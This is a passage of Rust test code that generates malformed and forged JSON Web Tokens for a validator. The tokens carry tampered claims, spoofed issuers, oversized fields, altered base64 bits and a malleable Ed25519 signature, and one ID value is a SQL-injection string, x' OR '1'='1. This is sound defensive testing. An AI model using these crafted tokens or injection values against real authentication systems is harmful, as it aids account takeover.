                _ => wrong.extend([json!(1), json!(0), json!(-1.5)]),
            }
            for value in wrong {
                self.body(
                    format!("{name} {value:.60}"),
                    text(&with(name, value)),
                    R::BadClaim,
                );
            }
            if numbers.contains(&name) {
                for number in [
                    "NaN",
                    "Infinity",
                    "-Infinity",
                    "1e400",
                    "0x7fffffff",
                    "01",
                    "+1",
                    "1_000",
                    ".5",
                    "1e9",
                ] {
                    let spelt = text(&with(name, json!("@"))).replace("\"@\"", number);
                    self.body(format!("{name} {number}"), spelt, R::BadClaim);
                }
            }
        }
        let now = now();
        for (name, value, why) in [
            ("exp", json!(now - 3600), R::Expired),
            ("exp", json!(now - 6), R::Expired),
            ("exp", json!(0), R::Expired),
            ("exp", json!(-1), R::Expired),
            ("exp", json!(i64::MIN), R::Expired),
            // Longer than any token of ours: it would outlive its revocation.
            ("exp", json!(i64::MAX), R::BadClaim),
            ("exp", json!(now + 2 * DAY), R::BadClaim),
            // Milliseconds.
            ("exp", json!((now + 60) * 1000), R::BadClaim),
            ("iat", json!(now + 3600), R::NotYetValid),
            ("iat", json!(i64::MAX), R::NotYetValid),
            ("iat", json!(now * 1000), R::NotYetValid),
            ("iat", json!(0), R::BadClaim),
            ("iat", json!(i64::MIN), R::BadClaim),
            ("nbf", json!(now + 3600), R::NotYetValid),
            ("nbf", json!(i64::MAX), R::NotYetValid),
            ("aud", json!([]), R::WrongAudience),
            ("aud", json!(""), R::WrongAudience),
            ("aud", json!("other"), R::WrongAudience),
            ("aud", json!("API"), R::WrongAudience),
            ("aud", json!("api "), R::WrongAudience),
            ("aud", json!("api,other"), R::WrongAudience),
            ("aud", json!("*"), R::WrongAudience),
            ("aud", json!(["other", "ap", "apis"]), R::WrongAudience),
            ("aud", json!(["api", 1]), R::BadClaim),
            ("aud", json!([null]), R::BadClaim),
            ("iss", json!(""), R::WrongIssuer),
            ("iss", json!("https://issuer.test/"), R::WrongIssuer),
            ("iss", json!("https://ISSUER.test"), R::WrongIssuer),
            ("iss", json!("HTTPS://issuer.test"), R::WrongIssuer),
            ("iss", json!("http://issuer.test"), R::WrongIssuer),
            ("iss", json!("https://issuer.test:443"), R::WrongIssuer),
            (
                "iss",
                json!("https://issuer.test.evil.test"),
                R::WrongIssuer,
            ),
            ("iss", json!("https://issuer.test#"), R::WrongIssuer),
            ("iss", json!(" https://issuer.test"), R::WrongIssuer),
            ("iss", json!("https://\u{456}ssuer.test"), R::WrongIssuer),
            ("tenant", json!("globex"), R::BadClaim),
            ("tenant", json!("ACME"), R::BadClaim),
            ("tenant", json!("acme "), R::BadClaim),
            ("tenant", json!("system"), R::BadClaim),
            ("tenant", json!("*"), R::BadClaim),
            ("tenant", json!(""), R::BadClaim),
            ("sub", json!(""), R::BadClaim),
            ("sub", json!("a\u{0}b"), R::BadClaim),
            ("sub", json!("a".repeat(256)), R::BadClaim),
            ("client_id", json!(""), R::BadClaim),
            ("client_id", json!("a\nb"), R::BadClaim),
            ("client_id", json!("a".repeat(256)), R::BadClaim),
            ("jti", json!(""), R::BadClaim),
            ("jti", json!("1"), R::BadClaim),
            ("jti", json!("x' OR '1'='1"), R::BadClaim),
            (
                "jti",
                json!(uuid::Uuid::now_v7().simple().to_string()),
                R::BadClaim,
            ),
            (
                "jti",
                json!(uuid::Uuid::now_v7().braced().to_string()),
                R::BadClaim,
            ),
            (
                "jti",
                json!(uuid::Uuid::max().to_string().to_uppercase()),
                R::BadClaim,
            ),
            ("scope", json!(" "), R::BadClaim),
            ("scope", json!("read  write"), R::BadClaim),
            ("scope", json!("read "), R::BadClaim),
            ("scope", json!("read\twrite"), R::BadClaim),
            ("scope", json!("read\u{a0}write"), R::BadClaim),
            ("scope", json!("re\"ad"), R::BadClaim),
            ("principal_type", json!(""), R::BadClaim),
            ("principal_type", json!("User"), R::BadClaim),
            ("principal_type", json!("job"), R::BadClaim),
            ("principal_type", json!("admin"), R::BadClaim),
        ] {
            self.body(format!("{name} {value:.60}"), text(&with(name, value)), why);
        }
        // Both wrong: the time decides before the audience, and nothing is valid by accident.
        let mut late = with("exp", json!(now - 3600));
        late["iat"] = json!(now - 7200);
        late["nbf"] = json!(now - 7200);
        self.body("a token of yesterday", text(&late), R::Expired);
        late["exp"] = json!(now + 60);
        late["iat"] = json!(now + 120);
        self.body("issued after its end", text(&late), R::NotYetValid);
    }

    fn sizes(&mut self) {
        let mut header = self.signer.header();
        for i in 0..500 {
            header[format!("x{i}")] = json!(i);
        }
        self.header(
            "a header of many members",
            text(&header),
            R::ForbiddenHeader,
        );
        let huge = self.signer.header_with("x", json!("a".repeat(16_000)));
        self.header("a huge header", text(&huge), R::Malformed);
        self.header(
            "a huge alg",
            text(&self.signer.header_with("alg", json!("A".repeat(8000)))),
            R::WrongAlgorithm,
        );
        self.header(
            "a huge typ",
            text(&self.signer.header_with("typ", json!("A".repeat(8000)))),
            R::WrongType,
        );
        self.body(
            "huge claims",
            text(&with("x", json!("a".repeat(16_000)))),
            R::Malformed,
        );
        self.body(
            "a huge sub",
            text(&with("sub", json!("a".repeat(8000)))),
            R::BadClaim,
        );
        let many: Vec<String> = (0..800).map(|i| format!("aud{i}")).collect();
        self.body(
            "a huge aud",
            text(&with("aud", json!(many))),
            R::WrongAudience,
        );
        let good = self.signer.token(&claims());
        self.add(
            "a token and a long tail",
            format!("{good}{}", "A".repeat(17_000)),
            R::Malformed,
        );
        self.add("only A", "A".repeat(100_000), R::Malformed);
        self.add("only dots", ".".repeat(16_000), R::Malformed);
    }
}

/// The same bytes with other unused bits in the last character, where there are any.
fn spare_bits(part: &str) -> Vec<String> {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let unused = match part.len() % 4 {
        2 => 16,
        3 => 4,
        _ => 1,
    };
    let (rest, last) = part.split_at(part.len() - 1);
    let index = ALPHABET.find(last).expect("in the alphabet");
    (1..unused)
        .map(|bits| format!("{rest}{}", &ALPHABET[index ^ bits..][..1]))
        .collect()
}

fn der(raw: &[u8]) -> Vec<u8> {
    let integer = |half: &[u8]| {
        let sign: &[u8] = if half[0] & 0x80 == 0 { &[] } else { &[0] };
        [&[2, (half.len() + sign.len()) as u8][..], sign, half].concat()
    };
    let (r, s) = raw.split_at(raw.len() / 2);
    let both = [integer(r), integer(s)].concat();
    [&[0x30, both.len() as u8], &both[..]].concat()
}

/// Order of P-256.
fn order() -> [u8; 32] {
    let words: [u64; 4] = [
        0xffff_ffff_0000_0000,
        u64::MAX,
        0xbce6_faad_a717_9e84,
        0xf3b9_cac2_fc63_2551,
    ];
    let mut bytes = [0; 32];
    for (place, word) in bytes.chunks_mut(8).zip(words) {
        place.copy_from_slice(&word.to_be_bytes());
    }
    bytes
}

fn number(value: u8) -> [u8; 32] {
    let mut bytes = [0; 32];
    bytes[31] = value;
    bytes
}

/// a - b, big-endian, of one length.
fn sub(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut borrow = 0;
    let mut digits: Vec<u8> = a
        .iter()
        .zip(b)
        .rev()
        .map(|(a, b)| {
            let digit = i16::from(*a) - i16::from(*b) - borrow;
            borrow = i16::from(digit < 0);
            digit.rem_euclid(256) as u8
        })
        .collect();
    digits.reverse();
    digits
}

/// RFC 8032 section 5.1.7 wants S below the order of the group.
fn plus_order_of_ed25519(signature: &[u8]) -> Vec<u8> {
    let mut order = [0_u8; 32];
    order[..16].copy_from_slice(&0x14de_f9de_a2f7_9cd6_5812_631a_5cf5_d3ed_u128.to_le_bytes());
    order[31] = 0x10;
    let mut changed = signature.to_vec();
    let mut carry = 0_u16;
    for (digit, more) in changed[32..].iter_mut().zip(order) {
        let sum = u16::from(*digit) + u16::from(more) + carry;
        *digit = sum as u8;
        carry = sum >> 8;
    }
    changed
}
